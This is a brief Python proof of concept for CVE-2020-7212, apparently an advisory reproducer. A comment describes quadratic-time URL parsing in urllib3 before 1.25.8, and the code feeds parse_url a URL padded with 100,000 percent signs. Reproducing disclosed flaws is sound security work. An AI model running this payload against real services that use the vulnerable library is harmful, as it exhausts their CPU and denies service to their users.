# PYSEC-2020-149 (CVE-2020-7212): urllib3 before 1.25.8, _encode_invalid_chars in util/url.py takes quadratic time
# on a URL with many percent-encodings, so parsing one crafted URL takes the CPU for a long time.
from urllib3.util.url import parse_url

parse_url("http://example.com/" + "%" * 100000)
